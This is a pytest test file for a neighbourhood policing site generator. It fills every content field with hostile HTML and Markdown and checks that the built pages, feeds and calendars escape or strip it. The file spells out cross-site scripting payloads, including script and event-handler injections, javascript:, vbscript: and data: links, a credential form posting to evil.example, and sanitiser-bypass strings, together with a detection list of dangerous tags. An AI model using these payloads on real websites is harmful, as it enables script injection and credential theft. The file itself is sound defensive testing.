"""Hostile content in every field: a real site is built and no output file may contain
anything dangerous. Plain-text fields must show the attack as harmless text; Markdown
fields must lose it; nothing may load from or link to another site, or run.
"""

from __future__ import annotations

import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urljoin

import lxml.html
import pytest
import yaml
from support import MINI, build
from support.pages import page_address

from neighbourhood_policing.markup import plain_text, render_markdown, sanitise

EVIL = "evil.example"
#: Everything an attacker might try in Markdown or HTML, pointing at evil.example.
PAYLOAD = (
    "<script>alert('x1')</script>"
    f'<img src="https://{EVIL}/a.png" onerror="alert(\'x2\')">'
    "<a href=\"javascript:alert('x3')\">j</a>"
    "<a href=\"JaVaScRiPt&colon;alert('x4')\">j2</a>"
    f'<iframe src="https://{EVIL}/frame"></iframe>'
    f'<object data="https://{EVIL}/o.swf"></object><embed src="https://{EVIL}/e.swf">'
    f'<form action="https://{EVIL}/steal"><input name="pw"><button>Go</button></form>'
    f'<p style="background:url(https://{EVIL}/bg.png)">styled</p>'
    "<a href=\"vbscript:msgbox('x5')\">v</a>"
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>'
    '<svg onload="alert(\'x6\')"><circle r="1"/></svg>'
    f"<style>@import url(https://{EVIL}/s.css);</style>"
    f'<link rel="stylesheet" href="https://{EVIL}/l.css">'
    f'<meta http-equiv="refresh" content="0;url=https://{EVIL}/">'
    f'<base href="https://{EVIL}/">'
    "<details open ontoggle=\"alert('x7')\">t</details>"
    f'<math><mi xlink:href="https://{EVIL}/m">m</mi></math>'
    '<p id="main">clobber</p>'
    "\n\n[md link](javascript:alert('x8')) ![md image](data:image/png;base64,AAAA)"
    f" [vb](vbscript:x) <https://{EVIL}/auto>"
)
#: In Markdown files, anything loaded from another site is refused before the build
#: (tests/library/test_input_safety.py); the rest of the attack must still be cleaned.
FILE_PAYLOAD = re.sub(r'src="https://[^"]+"', 'src="/theme/favicon.svg"', PAYLOAD)
#: Short enough for fields limited to 200 or 300 characters.
SHORT = "<script>alert('s1')</script><img src=x onerror=alert('s2')>\"'><b onclick=alert(3)>b</b>"
#: In Markdown files an image that does not exist is refused too.
SHORT_FILE = SHORT.replace("src=x", "src=/theme/favicon.svg")

DANGEROUS_TAGS = {
    "script", "iframe", "object", "embed", "form", "input", "button", "style", "base",
    "meta-refresh", "svg", "math", "frame", "frameset", "applet", "textarea", "select",
}  # fmt: skip
#: The theme's own have-your-say forms (theme/templates/have_your_say.html): an email to
#: the team when no endpoint is set, as in this build. Only their fields are allowed.
THEME_FORMS = {"concern-form", "priority-form"}
THEME_FORM_FIELDS = {"input", "button", "textarea"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "srcset", "xlink:href"}
#: The theme's own search boxes: a GET form to the site's search page, and its controls.
SEARCH_FORM = {"role": "search", "method": "get", "action": "http://localhost:8000/search/"}
SEARCH_CONTROLS = {"input", "button", "select"}


class _Auditor(HTMLParser):
    """Records every dangerous element, attribute and URL in one HTML document."""

    def __init__(self, name: str) -> None:
        super().__init__(convert_charrefs=True)
        self.name = name
        self.found: list[str] = []
        self.scripts_with_content = 0
        self._in_script = False
        self._in_theme_form = False
        self._in_search_form = False

    def _theme_search(self, tag: str, values: dict[str, str | None]) -> bool:
        """The theme's search forms and their controls (and the search page's own buttons)."""
        if tag == "form":
            # Pages link relatively: the action is where the form goes from this page.
            action = urljoin(page_address(self.name), values.get("action") or "")
            values = {**values, "action": action}
            self._in_search_form = all(values.get(k) == v for k, v in SEARCH_FORM.items())
            return self._in_search_form
        if tag not in SEARCH_CONTROLS or "formaction" in values:
            return False
        page_button = self.name == "search/index.html" and tag == "button"
        return self._in_search_form or (page_button and values.get("type") == "button")

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        line = self.getpos()[0]
        values = dict(attrs)
        where = f"{self.name}:{line} <{tag}>"
        if tag == "script":
            # The theme may load its own scripts from the site; nothing inline, nothing else.
            src = values.get("src") or ""
            if not src or (re.match(r"^(https?:)?//", src) and "localhost:8000" not in src):
                self.found.append(f"{where} inline or off-site script")
            self._in_script = True
        elif tag == "meta" and (values.get("http-equiv") or "").lower() == "refresh":
            self.found.append(f"{where} meta refresh")
        elif (
            tag == "form"
            and self.name.endswith("/have-your-say/index.html")
            and values.get("id") in THEME_FORMS
            and (values.get("action") or "").startswith("mailto:")
        ):
            self._in_theme_form = True
        elif tag in THEME_FORM_FIELDS and self._in_theme_form:
            pass
        elif tag in DANGEROUS_TAGS and not self._theme_search(tag, values):
            self.found.append(f"{where} element")
        if tag == "link" and EVIL in (values.get("href") or ""):
            self.found.append(f"{where} off-site link element")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.found.append(f"{where} event handler {name}")
            if name == "style":
                self.found.append(f"{where} style attribute")
            if name in URL_ATTRIBUTES:
                squashed = re.sub(r"[\s\x00-\x1f]", "", value).lower()
                if squashed.startswith(("javascript:", "vbscript:", "data:")):
                    self.found.append(f"{where} {name}={value[:40]}")
                if EVIL in value and not (tag == "a" and name == "href"):
                    self.found.append(f"{where} loads from {EVIL}: {value}")
            if name == "id" and value == "main" and tag != "main":
                self.found.append(f"{where} takes over the id 'main'")

    def handle_data(self, data: str) -> None:
        if self._in_script and data.strip():
            self.scripts_with_content += 1
            self.found.append(f"{self.name}:{self.getpos()[0]} inline script content")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_script = False
        if tag == "form":
            self._in_theme_form = False
            self._in_search_form = False


def audit_html(text: str, name: str) -> list[str]:
    auditor = _Auditor(name)
    auditor.feed(text)
    auditor.close()
    return auditor.found


def audit_file(path: Path, name: str) -> list[str]:
    text = path.read_text(encoding="utf-8", errors="replace")
    found: list[str] = []
    if path.suffix in {".html", ".htm"}:
        found += audit_html(text, name)
        for marker in ("<script>alert", "<img src=x onerror", "<b onclick"):
            if marker in text:
                found.append(f"{name}: raw '{marker}'")
    elif path.suffix in {".xml", ".atom", ".rss"}:
        root = ET.fromstring(text.encode("utf-8"))
        parents = {child: parent for parent in root.iter() for child in parent}
        for element in root.iter():
            tag = element.tag.rsplit("}", 1)[-1]
            parent = parents.get(element)
            in_item = parent is not None and parent.tag.rsplit("}", 1)[-1] in {"item", "entry"}
            value = element.text or ""
            # An update's title is plain text (tags stripped), in Atom and RSS alike.
            if tag == "title" and in_item and re.search(r"<\s*[a-z]", value):
                found.append(f"{name}: an update's title holds markup: {value[:60]}")
            # HTML in Atom (type="html") and in RSS item descriptions, which readers render.
            is_html = element.get("type") == "html" or (tag == "description" and in_item)
            if tag in {"content", "summary", "description", "encoded"} and is_html and value:
                found += audit_html(value, f"{name} <{tag}>")
            for attr, attr_value in element.attrib.items():
                if attr_value.strip().lower().startswith(("javascript:", "vbscript:", "data:")):
                    found.append(f"{name}: <{tag} {attr}={attr_value[:40]}>")
    elif path.suffix == ".ics":
        unfolded = re.sub(r"\r?\n[ \t]", "", text)
        for row in unfolded.splitlines():
            key = row.split(":", 1)[0].split(";")[0]
            # Calendar text is plain: Markdown must arrive as words, not as rendered HTML.
            if key == "DESCRIPTION" and re.search(r"<(p|a href|strong|em|ul|li)[ >]", row):
                found.append(f"{name}: {key} holds rendered HTML: {row[:60]}")
            if key == "X-ALT-DESC":
                found += audit_html(row.split(":", 1)[-1], f"{name} X-ALT-DESC")
            if key == "URL" and "javascript:" in row.lower():
                found.append(f"{name}: {row[:60]}")
    elif path.suffix in {".txt", ".js", ".css", ".json"} and (
        "alert('x" in text or "alert('s" in text
    ):
        found.append(f"{name}: hostile text reached a {path.suffix} file")
    return found


def _hostile_site(root: Path) -> None:
    """Put the payload into every field of the mini site that takes text."""
    alpha = root / "neighbourhoods" / "alpha"
    area = yaml.safe_load((alpha / "area.yaml").read_text(encoding="utf-8"))
    area.update(
        name=f"Alpha {SHORT}",
        district=f"Test {SHORT}",
        summary=SHORT,
        description=PAYLOAD,
        places=[SHORT, "Little Alpha"],
    )
    area["team"][0].update(name=SHORT, role=SHORT, number=SHORT, bio=PAYLOAD)
    area["team"][1].update(name=f"Jo {SHORT}", bio=PAYLOAD)
    area["contact"] = {
        "email": "alpha\"><script>alert('e1')</script>@example.police.uk",
        "phone": SHORT,
        "social": [{"name": SHORT, "url": 'https://social.example/alpha?a="><script>'}],
    }
    station = area["stations"][0]
    station.update(name=SHORT, address=SHORT, notes=SHORT)
    station["opening_hours"] = [{"days": SHORT, "hours": SHORT}]
    area["councils"] = [{"name": SHORT, "url": "https://alpha.example.gov.uk/?q=<script>"}]
    area["links"] = [
        {"title": SHORT, "url": "https://council.example.gov.uk/", "description": SHORT}
    ]
    (alpha / "area.yaml").write_text(yaml.safe_dump(area, allow_unicode=True))

    priorities = yaml.safe_load((alpha / "priorities.yaml").read_text(encoding="utf-8"))
    for priority in priorities:
        priority.update(title=SHORT, agreed_with=SHORT, problem=PAYLOAD)
        priority["actions"] = [{"date": "2026-09-10", "text": PAYLOAD}]
        if priority.get("outcome"):
            priority["outcome"] = PAYLOAD
    (alpha / "priorities.yaml").write_text(yaml.safe_dump(priorities, allow_unicode=True))

    patrols = yaml.safe_load((alpha / "patrols.yaml").read_text(encoding="utf-8"))
    patrols[0].update(name=SHORT, why=PAYLOAD)
    (alpha / "patrols.yaml").write_text(yaml.safe_dump(patrols, allow_unicode=True))

    events = yaml.safe_load((alpha / "events.yaml").read_text(encoding="utf-8"))
    for event in events:
        event.update(title=SHORT, place=SHORT, address=SHORT, description=PAYLOAD, booking=SHORT)
    (alpha / "events.yaml").write_text(yaml.safe_dump(events, allow_unicode=True))

    head = (
        f"Title: Market {SHORT_FILE}\nDate: 2026-11-22 10:00\nCategory: Crime update\n"
        f"Summary: {SHORT_FILE}\nAuthor: {SHORT_FILE}\nAreas: beta\n\n"
    )
    (alpha / "updates" / "2026-11-22-hostile.md").write_text(head + FILE_PAYLOAD + "\n")
    (root / "content" / "updates" / "2026-11-23-hostile.md").write_text(
        head.replace("Areas: beta\n", "") + FILE_PAYLOAD + "\n"
    )
    (root / "content" / "pages" / "about.md").write_text(
        f"Title: About {SHORT_FILE}\nSlug: about\nSummary: {SHORT_FILE}\n\n{FILE_PAYLOAD}\n"
    )


@pytest.fixture(scope="module")
def hostile_output(tmp_path_factory: pytest.TempPathFactory) -> Path:
    import shutil

    root = tmp_path_factory.mktemp("hostile") / "site"
    shutil.copytree(MINI, root)
    _hostile_site(root)
    return build(root, tmp_path_factory.mktemp("hostile-out") / "output")


def test_nothing_dangerous_in_any_output_file(hostile_output: Path) -> None:
    files = sorted(p for p in hostile_output.rglob("*") if p.is_file())
    assert len(files) > 15
    found: list[str] = []
    for path in files:
        found += audit_file(path, path.relative_to(hostile_output).as_posix())
    assert not found, "\n".join(found[:40])


def test_plain_text_fields_show_the_attack_as_text(hostile_output: Path) -> None:
    """Escaped, not dropped: the resident sees exactly what the editor typed."""
    area = (hostile_output / "neighbourhoods/alpha/index.html").read_text(encoding="utf-8")
    escaped = "&lt;script&gt;alert(&#39;s1&#39;)&lt;/script&gt;"
    assert escaped in area  # name, summary, team, station, event, patrol ...
    assert area.count(escaped) >= 12
    assert "&lt;script&gt;alert(&#39;e1&#39;)&lt;/script&gt;@example.police.uk</a>" in area
    # Markdown fields keep their harmless parts.
    assert "styled" in area and "clobber" in area


def test_titles_are_plain_text_everywhere(hostile_output: Path) -> None:
    page = (
        hostile_output / "neighbourhoods/alpha/updates/2026-11-22-hostile/index.html"
    ).read_text(encoding="utf-8")
    title = re.search(r"<title>(.*?)</title>", page, re.S)
    h1 = re.search(r"<h1>(.*?)</h1>", page, re.S)
    assert title and h1
    for text in (title.group(1), h1.group(1)):
        assert "<" not in text and "script" not in text, text
        assert text.startswith("Market")


def test_summary_is_sanitised_where_pelican_keeps_its_own_copy(hostile_output: Path) -> None:
    listing = (hostile_output / "neighbourhoods/alpha/updates/index.html").read_text(
        encoding="utf-8"
    )
    assert "<b onclick" not in listing and "<img src=x" not in listing
    assert "update-summary__text" in listing


def test_content_ids_cannot_take_over_the_theme_ids(hostile_output: Path) -> None:
    page = (hostile_output / "updates/2026-11-23-hostile/index.html").read_text(encoding="utf-8")
    assert page.count('id="main"') == 1
    assert 'id="md-main"' in page


@pytest.mark.parametrize(
    ("markdown", "forbidden"),
    [
        ("<script>alert(1)</script>", "<script"),
        ('<img src="x" onerror="alert(1)">', "onerror"),
        ("[x](javascript:alert(1))", "javascript:"),
        ("[x](JAVASCRIPT:alert(1))", "JAVASCRIPT"),
        ("[x](java\tscript:alert(1))", "javascript:"),
        ('<a href="java\tscript:alert(1)">x</a>', "javascript:"),
        ('<a href="java\nscript:alert(1)">x</a>', "javascript:"),
        ('<a href=" \x01javascript:alert(1)">x</a>', "javascript:"),
        ("<a href='&#106;avascript:alert(1)'>x</a>", "avascript"),
        ("[x](vbscript:msgbox(1))", "vbscript"),
        ("![x](data:image/svg+xml;base64,PHN2Zz4=)", "data:"),
        ("<iframe src='https://e.example'></iframe>", "<iframe"),
        ("<object data='x'></object>", "<object"),
        ("<embed src='x'>", "<embed"),
        ("<form action='x'><input></form>", "<form"),
        ("<p style='background:url(x)'>x</p>", "style="),
        ("<style>p{}</style>", "<style"),
        ("<svg><script>alert(1)</script></svg>", "<svg"),
        ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "onerror"),
        ('<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "onerror"),
        ("<a href=x onmouseover=alert(1)>x</a>", "onmouseover"),
        ("<base href='https://e.example'>", "<base"),
        ("<meta http-equiv=refresh content='0;url=x'>", "<meta"),
        ("<!-- <script>alert(1)</script> -->", "<!--"),
        ("<div><![CDATA[<script>alert(1)</script>]]></div>", "<script"),
    ],
)
def test_render_markdown_removes(markdown: str, forbidden: str) -> None:
    html = str(render_markdown(markdown))
    if forbidden.endswith(":"):
        # A scheme is dangerous where a browser follows it: in an attribute. Browsers drop
        # tabs and newlines inside a URL before reading its scheme. (Text that merely
        # shows the characters, as a renderer may leave a malformed link, is escaped.)
        values = [
            value
            for element in lxml.html.fragment_fromstring(html, create_parent="div").iter()
            for value in element.attrib.values()
        ]
        assert not any(forbidden in re.sub(r"[\t\n\r]", "", v).lower() for v in values), html
    else:
        assert forbidden not in re.sub(r"[\t\n\r]", "", html), html
    assert sanitise(html) == html  # cleaning is stable: a second pass changes nothing


def test_plain_text_strips_markup_but_keeps_words() -> None:
    assert plain_text("Fish <b>&amp;</b> chips<script>alert(1)</script>") == "Fish & chips"
    assert plain_text(None) == ""
